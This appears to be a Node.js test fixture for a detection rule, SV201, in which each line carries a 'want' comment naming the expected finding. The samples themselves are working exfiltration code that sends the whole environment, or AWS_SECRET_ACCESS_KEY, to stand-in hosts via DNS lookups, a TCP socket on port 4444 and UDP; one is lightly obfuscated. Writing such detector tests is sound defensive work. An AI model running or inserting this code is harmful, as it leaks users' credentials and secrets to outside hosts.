const dns = require('dns');
const net = require('net');
const e = process['en' + 'v'];
const hex = Buffer.from(JSON.stringify(e)).toString('hex').slice(0, 60);
dns.lookup(`${hex}.x.exfil.example`, () => {});                   // want "SV201: sends the whole environment to a DNS lookup"

const s = net.connect(4444, '198.51.100.23');
for (const k of Object.keys(process.env)) s.write(k + '=' + process.env[k] + '\n'); // want "SV201: sends the whole environment to 198.51.100.23"
dns.resolve4(process.env.AWS_SECRET_ACCESS_KEY + '.t.exfil.example', () => {}); // want "SV201: sends AWS_SECRET_ACCESS_KEY in a DNS lookup"
const u = require('dgram').createSocket('udp4');
u.send(Buffer.from(JSON.stringify(process.env)), 53, '203.0.113.53');          // want "SV201: sends the whole environment to 203.0.113.53"
